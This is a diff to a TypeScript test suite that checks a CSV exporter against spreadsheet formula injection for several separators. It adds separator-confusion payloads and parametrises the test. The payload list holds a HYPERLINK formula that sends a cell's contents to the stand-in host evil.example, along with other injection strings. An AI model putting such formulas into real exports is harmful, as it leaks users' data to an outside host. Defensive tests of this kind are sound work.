@@ -12,6 +12,8 @@ const PAYLOADS = [
   '=HYPERLINK("http://evil.example?"&A1,"here")',
   '","=1+1',
   '";=1+1',
+  'a,=1+1',
+  'a;=1+1',
   '＝1+1',
   '|=1+1',
 ];
@@ -38,14 +40,18 @@ const rawCells = (text: string, separator: string): readonly string[] => {
   return [...cells, cell];
 };
 
-test('a CSV export contains no formula, for commas, semicolons and tabs as separators', () => {
-  const text = writeCsv(
-    ['name', 'address'],
-    PAYLOADS.map((payload) => [payload, payload]),
-  );
-  for (const separator of [',', ';', '\t']) {
-    expect(rawCells(text, separator).filter((cell) => STARTS_A_FORMULA.test(cell))).toEqual([]);
-  }
-  const cells = readCsv(text).flatMap((record) => record.cells);
-  for (const payload of PAYLOADS) expect(cells).toContain(payload);
-});
+test.each([',', ';', '\t'] as const)(
+  'an export with the separator %j contains no formula, whatever separator the spreadsheet expects',
+  (written) => {
+    const text = writeCsv(
+      ['name', 'address'],
+      PAYLOADS.map((payload) => [payload, payload]),
+      { separator: written },
+    );
+    for (const separator of [',', ';', '\t']) {
+      expect(rawCells(text, separator).filter((cell) => STARTS_A_FORMULA.test(cell))).toEqual([]);
+    }
+    const cells = readCsv(text).flatMap((record) => record.cells);
+    for (const payload of PAYLOADS) expect(cells).toContain(payload);
+  },
+);
